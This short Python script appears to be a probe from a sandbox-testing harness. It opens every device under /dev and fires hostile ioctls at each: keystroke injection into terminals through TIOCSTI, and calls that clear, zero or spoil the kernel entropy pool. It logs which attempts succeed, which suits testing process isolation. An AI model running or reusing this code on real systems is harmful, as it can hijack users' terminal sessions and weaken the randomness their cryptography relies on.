"""Sends control requests to the devices it may open: to type, to spoil random numbers."""

import contextlib
import fcntl
import os
import struct

from attacker import got, tried

requests = {
    "TIOCSTI": (0x5412, b"x"),
    "TIOCLINUX": (0x541C, struct.pack("b", 3)),
    "RNDADDENTROPY": (0x40085203, struct.pack("ii8s", 64, 8, bytes(8))),
    "RNDCLEARPOOL": (0x5206, b""),
    "RNDZAPENTCNT": (0x5204, b""),
    "RNDRESEEDCRNG": (0x5207, b""),
}
tried("ioctl on everything below /dev")
for folder, _, names in os.walk("/dev"):
    for name in names:
        path = os.path.join(folder, name)
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            for word, (number, data) in requests.items():
                with contextlib.suppress(OSError):
                    fcntl.ioctl(fd, number, data or 0)
                    got(f"{word} on {path}")
            os.close(fd)
